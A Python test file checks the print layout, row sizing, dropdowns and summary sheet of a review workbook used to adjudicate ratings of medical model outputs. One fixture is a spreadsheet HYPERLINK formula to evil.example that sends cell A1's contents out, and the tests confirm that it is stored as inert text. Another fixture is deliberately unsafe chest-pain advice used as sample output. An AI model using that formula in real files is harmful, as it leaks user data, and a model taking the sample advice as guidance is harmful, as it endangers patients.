"""How the review workbook looks and prints for an adjudicator (found by printing real
workbooks to PDF with LibreOffice and reading the pages):

- Disagreements: landscape, one page wide, header row on every page, print area stops
  before the screen-only link/key columns, columns narrow enough to print at a readable
  scale, every row tall enough for its wrapped text (a longer text carries a note), the
  fill-in columns marked, rows coloured by boundary;
- Summary: key/value rows and instructions not squeezed into one narrow column, the
  boundary share a percentage in its own column (it used to read "130%" next to "13");
- every bold/coloured font names its typeface (an unnamed one printed as a serif);
- Codebook and Agreed rows tall enough for their text; hidden sheets stay hidden.
"""

from __future__ import annotations

import sys
from pathlib import Path

import openpyxl
import pandas as pd
import pytest
from openpyxl.utils import get_column_letter

from goldboard.adjudicate.flags import boundary_words
from goldboard.exports.workbook import BOUNDARY_FILLS
from goldboard.exports.xlsx_layout import (
    HEADER_FILL,
    INPUT_HEADER_FILL,
    LINE_HEIGHT,
    MAX_LINES,
    MAX_ROW_HEIGHT,
    wrapped_lines,
)
from goldboard.label_configs.schema import load_schema
from goldboard.workflows.adjudication import write_review_sheet

sys.path.insert(0, str(Path(__file__).resolve().parent))
from test_flags import medfail_rows, mtb_table, ratings_frame  # noqa: E402

EVIL = '=HYPERLINK("http://evil.example/x?"&A1,"Click for your results")'
PARA = (
    "Chest pain in a 58-year-old man with diabetes may be reflux, but it can also be a heart attack. "
    "Try an antacid and lie down; if it does not settle in a few hours, book a GP appointment. "
)
LONG_RATIONALE = "I would call this a 5: no advice to call emergency services. " * 6


def _rgb(color) -> str:
    return (color.rgb or "")[-6:] if color is not None else ""


@pytest.fixture(scope="module")
def medfail_book(tmp_path_factory):
    schema = load_schema("medfail")
    rows = [(i, r, f, v, LONG_RATIONALE if i == "M1" else f"{r}: {f} is {v}") for i, r, f, v in medfail_rows()]
    ratings = ratings_frame(rows)
    ratings["task_id"] = [str(10 + k) for k in range(len(ratings))]
    ratings["project_id"] = "3"
    units = pd.DataFrame(
        {
            "item_id": [f"M{i}" for i in range(1, 10)],
            "case_text": ["58M, crushing central chest pain 40 min, radiating to jaw, sweaty. Asked what to do."] * 9,
            "output_text": [PARA * 500, EVIL] + ["Rest."] * 7,  # M1: 92,500 characters
        }
    )
    path = tmp_path_factory.mktemp("wb") / "review.xlsx"
    write_review_sheet(
        path,
        ratings,
        schema,
        raters=["r1", "r2"],
        units=units,
        base_url="http://ls:8080",
        study_info={"study": "synthetic", "round": 1},
    )
    return openpyxl.load_workbook(path)


def _columns(ws) -> dict[str, int]:
    return {c.value: c.column for c in ws[1] if c.value is not None}


def test_wrapped_lines_counts_greedy_word_wrap():
    # width 10 -> 9 characters a line (10 x 1.05, one kept spare), counted by hand
    assert wrapped_lines("aaaa bbbb cccc", 10) == 2  # "aaaa bbbb" | "cccc"
    assert wrapped_lines("aaaa bbbbb", 10) == 2  # 10 characters do not fit 9
    assert wrapped_lines("x" * 20, 10) == 3  # a long word is broken: 9 + 9 + 2
    assert wrapped_lines("x" * 18, 10) == 2
    assert wrapped_lines("ab\ncd\n\nef", 10) == 4  # every line break counts, empty lines too
    assert wrapped_lines("", 10) == 1
    assert wrapped_lines("word " * 10_000, 10, limit=30) == 30


def test_disagreements_print_setup(medfail_book):
    ws = medfail_book["Disagreements"]
    col = _columns(ws)
    assert ws.page_setup.orientation == "landscape"
    assert (ws.page_setup.fitToWidth, ws.page_setup.fitToHeight) == (1, 0) and ws.sheet_properties.pageSetUpPr.fitToPage
    assert ws.print_title_rows == "$1:$1"  # header on every page
    last = get_column_letter(col["Model output"])
    assert ws.print_area == f"'Disagreements'!$A$1:${last}${ws.max_row}"  # no link/key columns on paper
    assert col["r1 task (Label Studio)"] > col["Model output"] and col["Key (do not edit)"] > col["Model output"]
    assert ws.page_margins.left <= 0.3 and ws.page_margins.right <= 0.3
    printed = sum(ws.column_dimensions[get_column_letter(j)].width for j in range(1, col["Model output"] + 1))
    # two raters: ~270 width units print at ~55% on Letter (the 460 units of before printed at ~30%)
    assert printed <= 280, printed
    widths = {h: ws.column_dimensions[get_column_letter(j)].width for h, j in col.items()}
    assert widths["r1 rationale"] == widths["r2 rationale"] and widths["r1 value"] == widths["r2 value"]
    assert widths["Field"] >= len("keep_in_benchmark")  # field names are not broken


def test_disagreement_rows_tall_enough_and_overflow_noted(medfail_book):
    ws = medfail_book["Disagreements"]
    col = _columns(ws)
    measured = [h for h in col if not h.endswith("(Label Studio)") and h != "Key (do not edit)"]
    noted = []
    for r in range(2, ws.max_row + 1):
        height = ws.row_dimensions[r].height or LINE_HEIGHT
        for h in measured:
            c = ws.cell(r, col[h])
            width = ws.column_dimensions[get_column_letter(col[h])].width
            need = wrapped_lines(str(c.value or ""), width)
            if need > MAX_LINES:
                assert height == MAX_ROW_HEIGHT and c.comment is not None, (r, h)
                noted.append((ws.cell(r, col["Item ID"]).value, h))
            else:
                assert height >= LINE_HEIGHT * need, (r, h, height, need)
    assert noted == [("M1", "Model output")]  # the 92,500-character output (cut at Excel's limit)
    assert ws.cell(2, col["Model output"]).value.endswith("more characters not shown]")
    assert "longer than the row can show" in ws.cell(2, col["Model output"]).comment.text
    # every header fits its row
    for h, j in col.items():
        width = ws.column_dimensions[get_column_letter(j)].width
        assert ws.row_dimensions[1].height >= LINE_HEIGHT * wrapped_lines(h, width, bold=True), h


def test_fill_in_columns_marked_and_untrusted_text_inert(medfail_book):
    ws = medfail_book["Disagreements"]
    col = _columns(ws)
    assert [col[h] for h in ("Decision", "Reason", "Adjudicator")] == [6, 7, 8]  # near the left, after the ids
    for h, j in col.items():
        head = ws.cell(1, j)
        fill = INPUT_HEADER_FILL if h in ("Decision", "Reason", "Adjudicator") else HEADER_FILL
        assert _rgb(head.fill.fgColor) == fill, h
    for r in range(2, ws.max_row + 1):
        for h in ("Decision", "Reason", "Adjudicator"):
            c = ws.cell(r, col[h])
            assert not c.protection.locked and _rgb(c.fill.fgColor) == "FFFFFF"
        assert ws.cell(r, col["Flags"]).protection.locked
    evil = next(
        ws.cell(r, col["Model output"]) for r in range(2, ws.max_row + 1) if ws.cell(r, col["Item ID"]).value == "M2"
    )
    assert evil.value == "'" + EVIL and evil.data_type == "s"
    # each Decision cell carries exactly its field's dropdown
    lists = medfail_book["_lists"]
    ranges = {
        lists.cell(1, j).value: f"=_lists!${get_column_letter(j)}$2:${get_column_letter(j)}${lists.max_row}"
        for j in range(1, lists.max_column + 1)
    }
    dvs = ws.data_validations.dataValidation
    for r in range(2, ws.max_row + 1):
        field = ws.cell(r, col["Field"]).value
        cell = f"{get_column_letter(col['Decision'])}{r}"
        covering = [dv for dv in dvs if cell in dv.sqref]
        assert len(covering) == 1 and covering[0].type == "list", (r, field)
        want = ranges[field].rsplit("$", 1)[0]  # the list's own length
        assert covering[0].formula1.startswith(want), (field, covering[0].formula1)
        n = len(load_schema("medfail").field(field).categories) + 1  # + unresolved
        assert covering[0].formula1.endswith(f"${n + 1}")


def test_fonts_are_named_everywhere(medfail_book):
    for ws in medfail_book.worksheets:
        for row in ws.iter_rows():
            for c in row:
                if c.has_style and (c.font.b or c.font.color is not None):
                    assert c.font.name, (ws.title, c.coordinate)


def test_summary_readable(medfail_book):
    ws = medfail_book["Summary"]
    merged = {str(m) for m in ws.merged_cells.ranges}
    labels = {ws.cell(r, 1).value: r for r in range(1, ws.max_row + 1) if ws.cell(r, 1).value}
    assert "Workspace" not in labels  # not given: no empty row
    r = labels["Generated"]
    assert f"B{r}:H{r}" in merged  # values span the sheet, not a cell 30 wide
    how = [r for v, r in labels.items() if str(v).startswith("• ")]
    assert len(how) >= 4 and all(f"A{r}:H{r}" in merged for r in how)
    assert labels["Schema medfail names no boundaries."]
    stat = labels["severity"]
    assert [ws.cell(stat, j).number_format for j in (3, 4, 5)] == ["0.000"] * 3
    assert isinstance(ws.cell(stat, 3).value, float)
    assert ws.page_setup.orientation == "landscape" and ws.sheet_properties.pageSetUpPr.fitToPage


def test_summary_boundary_share_is_a_percentage_in_its_own_column(tmp_path):
    schema = load_schema("mtb")
    path = tmp_path / "review.xlsx"
    write_review_sheet(path, mtb_table(), schema, raters=["onc_a", "onc_b"])
    wb = openpyxl.load_workbook(path)
    ws = wb["Summary"]
    row = next(r for r in range(1, ws.max_row + 1) if ws.cell(r, 1).value == "sufficiency_vs_optimization")
    assert [ws.cell(row, j).value for j in (3, 4)] == [9, 16]  # hand count, see test_flags
    share = ws.cell(row, 5)
    assert share.value == pytest.approx(9 / 16) and share.number_format == "0%"
    assert ws.cell(row, 7).value.startswith("Information sufficiency")
    expl_width = sum(ws.column_dimensions[c].width for c in "GH")
    assert ws.row_dimensions[row].height >= LINE_HEIGHT * wrapped_lines(ws.cell(row, 7).value, expl_width)
    # Disagreements rows take their first boundary's colour, in schema order
    dis = wb["Disagreements"]
    col = _columns(dis)
    fills = {boundary_words(schema, b.name): BOUNDARY_FILLS[i] for i, b in enumerate(schema.boundaries)}
    seen = set()
    for r in range(2, dis.max_row + 1):
        boundary = dis.cell(r, col["Boundary"]).value
        got = _rgb(dis.cell(r, col["Flags"]).fill.fgColor)
        assert got == (fills[boundary.split("; ")[0]] if boundary else "000000"), (r, boundary, got)
        seen.add(boundary)
    assert len(seen - {None}) == 4


def test_codebook_and_agreed_rows_fit(medfail_book):
    for name in ("Codebook", "Agreed"):
        ws = medfail_book[name]
        assert ws.print_title_rows == "$1:$1" and ws.page_setup.orientation == "landscape"
        for r in range(2, ws.max_row + 1):
            height = ws.row_dimensions[r].height or LINE_HEIGHT
            for j in range(1, ws.max_column + 1):
                v = ws.cell(r, j).value
                if v:
                    width = ws.column_dimensions[get_column_letter(j)].width
                    assert height >= LINE_HEIGHT * wrapped_lines(str(v), width), (name, r, j, v)
    code = medfail_book["Codebook"]
    assert code.column_dimensions["C"].width >= len("unit_conversion_arithmetic_error")
    assert code.protection.sheet and medfail_book["Agreed"].protection.sheet
    assert [ws.title for ws in medfail_book.worksheets if ws.sheet_state != "visible"] == ["_lists", "_goldboard"]


def test_the_writer_writes_every_column_the_reader_reads(medfail_book):
    # one table of headers (review_sheet.HEADERS) for the writer and the reader
    from goldboard.adjudicate.review_sheet import HEADERS, READ_COLUMNS

    written = list(_columns(medfail_book["Disagreements"]))
    assert [HEADERS[k] for k in READ_COLUMNS if HEADERS[k] not in written] == []
